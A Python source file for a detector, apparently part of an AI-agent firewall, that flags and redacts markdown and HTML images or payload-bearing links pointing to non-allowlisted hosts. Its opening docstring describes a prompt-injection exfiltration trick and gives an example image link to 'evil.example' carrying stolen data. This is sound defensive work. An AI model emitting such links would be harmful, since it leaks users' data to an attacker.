"""Markdown image and link exfiltration: an image the agent's UI renders fetches its URL with no
click, so an injected `![x](https://evil.example/?d=<data>)` leaks data. Flagged: images to any
domain not allowlisted, and links whose URL carries a data-like payload to such a domain."""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from urllib.parse import urlsplit

from firewall.detect.base import Detection, Segment

_MARKDOWN = re.compile(r"(!?)\[[^\]\n]{0,500}\]\(\s*<?(https?://[^\s)>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_HTML_IMAGE = re.compile(r"<img\b[^>]*\bsrc\s*=\s*[\"']?(https?://[^\s\"'>]+)", re.IGNORECASE)
_PAYLOAD = re.compile(r"[?#&=/][A-Za-z0-9+/_%=\-.]{24,}")


class ExfilLinkDetector:
    """Flags markdown and HTML images, and links carrying a data-like payload, whose host is not
    in ``allowed_domains`` (a domain allows its subdomains too)."""

    name = "exfil"

    def __init__(self, allowed_domains: Iterable[str] = ()) -> None:
        self.allowed = tuple(d.lower().lstrip(".") for d in allowed_domains)

    def allowed_host(self, url: str) -> bool:
        """Whether the URL's host is an allowed domain or a subdomain of one."""
        host = (urlsplit(url).hostname or "").lower()
        return any(host == d or host.endswith("." + d) for d in self.allowed)

    async def detect(self, segments: Sequence[Segment]) -> list[Detection]:
        """Findings (action redact) for each offending image or link, spanning its markup."""
        found: list[Detection] = []
        for path, text in segments:
            for match in _MARKDOWN.finditer(text):
                image, url = match.group(1) == "!", match.group(2)
                if self.allowed_host(url):
                    continue
                if image:
                    found.append(
                        Detection(
                            self.name,
                            "detect.exfil.markdown_image",
                            f"image from a non-allowlisted host loads without a click: {url[:120]}",
                            path,
                            *match.span(),
                            action="redact",
                        )
                    )
                elif _PAYLOAD.search(url.split("://", 1)[1]):
                    found.append(
                        Detection(
                            self.name,
                            "detect.exfil.data_link",
                            f"link carrying a data-like payload to a non-allowlisted host: {url[:120]}",
                            path,
                            *match.span(),
                            score=0.7,
                            action="redact",
                        )
                    )
            for match in _HTML_IMAGE.finditer(text):
                if not self.allowed_host(match.group(1)):
                    found.append(
                        Detection(
                            self.name,
                            "detect.exfil.html_image",
                            f"HTML image from a non-allowlisted host: {match.group(1)[:120]}",
                            path,
                            *match.span(),
                            action="redact",
                        )
                    )
        return found
